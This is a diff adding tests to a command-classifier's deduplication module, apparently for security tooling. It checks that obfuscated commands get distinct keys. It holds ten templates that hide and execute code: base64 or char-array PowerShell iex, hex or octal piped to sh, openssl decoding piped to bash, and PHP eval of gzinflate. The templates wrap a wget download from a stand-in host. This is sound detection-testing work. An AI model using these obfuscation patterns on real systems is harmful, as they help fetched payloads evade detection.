@@ -1,9 +1,13 @@
+import base64
+
 import pyarrow as pa
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from cmdclf.dedup import behaviour
 from cmdclf.dedup.behaviour import behaviour_keys, behaviour_texts
+from cmdclf.rules import RuleSet
 
 
 def keys(*lines, platform="windows"):
@@ -99,6 +103,51 @@ def test_what_varies_freely_keeps_the_key(platform, a, b):
 def test_what_acts_changes_the_key(platform, a, b):
     first, second = keys(a, b, platform=platform)
     assert first != second, text(a, platform)
+
+
+def _numbers(code):
+    return ",".join(str(ord(letter)) for letter in code)
+
+
+def _base64(code, form="utf-8"):
+    return base64.b64encode(code.encode(form)).decode()
+
+
+#: Ways to hide code: some are decoded, some are not, and none may make two codes look alike.
+HIDDEN = {
+    "variable": lambda c: f'powershell $d="{_base64(c)}";iex([convert]::frombase64string($d))',
+    "characters": lambda c: f'powershell -c "iex(-join([char[]]({_numbers(c)})))"',
+    "hexadecimal": lambda c: f"echo {c.encode().hex()} | xxd -r -p | sh",
+    "octal": lambda c: "printf '" + "".join(f"\\{ord(x):03o}" for x in c) + "' | sh",
+    "openssl": lambda c: f"X={_base64(c)}; echo $X|openssl enc -d -a|bash",
+    "compressed": lambda c: f"php -r 'eval(gzinflate(base64_decode(\"{_base64(c[::-1])}\")));'",
+    "decoy": lambda c: f'powershell -e {_base64("whoami", "utf-16-le")}; iex([gz]::inflate("{_base64(c)}"))',
+    "beyond the bound": lambda c: f"powershell -e {_base64('whoami;' * 30_000 + c, 'utf-16-le')}",
+    "awk": lambda c: f"awk 'BEGIN{{system(sprintf(f,{_numbers(c)}))}}'",
+    "times": lambda c: f"python3 -c \"exec(bytes('{':'.join(str(ord(x)) for x in c)}'))\"",
+}
+
+
+@pytest.mark.parametrize("way", HIDDEN)
+@pytest.mark.parametrize("platform", ["windows", "linux"])
+def test_hidden_code_that_differs_in_one_character_has_another_key(way, platform):
+    first, second = keys(
+        HIDDEN[way]("wget http://192.0.2.9/a -O /tmp/a"),
+        HIDDEN[way]("wget http://192.0.2.8/a -O /tmp/a"),
+        platform=platform,
+    )
+    assert first != second
+
+
+def test_a_file_that_runs_is_no_home_folder():
+    assert len(set(keys("sh /home/good.sh", "sh /home/evil.sh", platform="linux"))) == 2
+    assert len(set(keys("ls /home/ann", "ls /home/bob", platform="linux"))) == 1
+
+
+def test_other_checks_make_another_version(monkeypatch):
+    before = behaviour.behaviour_version()
+    monkeypatch.setattr(behaviour, "_checks", lambda: RuleSet([], name="none"))
+    assert behaviour.behaviour_version() != before
 
 
 def test_letter_case_counts_where_the_system_counts_it():
